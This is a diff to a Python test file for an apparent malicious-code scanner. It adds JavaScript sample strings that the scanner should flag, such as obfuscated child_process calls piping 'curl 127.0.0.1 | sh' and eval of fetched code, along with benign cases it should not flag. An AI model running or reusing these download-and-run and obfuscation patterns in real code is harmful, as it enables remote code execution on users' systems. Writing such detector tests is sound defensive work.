@@ -21,7 +21,11 @@ def fired(text: str, name: str) -> set[str]:
         ("a.js", "require('node:child_process').spawn('sh', ['-c', 'curl 127.0.0.1 | sh'])", "download-and-run"),
         ("a.js", "fetch('http://127.0.0.1').then(r => r.text()).then(c => (0, eval)(c))", "download-and-run"),
         ("a.mjs", "const {exec: e} = await import('child_process'); e('curl 127.0.0.1 | sh')", "download-and-run"),
+        ("a.js", "function run() { eval(code) }\nlet code;\nfetch('http://127.0.0.1').then(r => r.text())"
+         ".then(t => { code = t; run() })", "download-and-run"),  # carried upwards in the text
         ("a.js", "require(['child', 'process'].join('_'))['ex' + 'ec']('ls')", "decoded-exec"),
+        ("a.js", "require('child_process')['cexe'.split('').reverse().join('')]('ls')", "decoded-exec"),
+        ("a.js", "require('child_process')[['spawn', 'exec'][1]]('curl 127.0.0.1 | sh')", "download-and-run"),
         ("a.js", "const f = [].filter.constructor; f(atob('Y29uc29sZS5sb2coMSk='))()", "decoded-exec"),
         ("a.js", "require('dns').lookup(require('os').hostname() + '.invalid', f)", "reports-host"),
         ("a.js", "Object.prototype.shell = '/bin/sh'", "tampered-verification"),
@@ -44,6 +48,10 @@ def test_malice(name: str, text: str, rule: str) -> None:
             "fetch('http://127.0.0.1', {headers: {token: process.env.TOKEN}}).then(r => r.json()).then(show)",
         ),
         ("a.js", "const {execFile} = require('child_process'); execFile('git', ['describe'])"),
+        # Elements that nobody can tell.
+        ("a.js", "require('child_process')[['spawn', 'exec'][k]]('ls'); x[['a'][9]]('ls')"),
+        # A block gives what it returns, not what it does.
+        ("a.js", "const f = () => { fetch('http://127.0.0.1/x'); return 'a()' }; eval(f())"),
         ("a.js", "const fs = require('fs'); fs.writeFileSync('out.json', JSON.stringify(data))"),
         ("a.go", 'package a\nimport "os/exec"\nfunc f() { exec.Command("git", "describe").Run() }'),
         ("a.sh", 'NAME=$(git describe)\necho "$NAME"\n'),
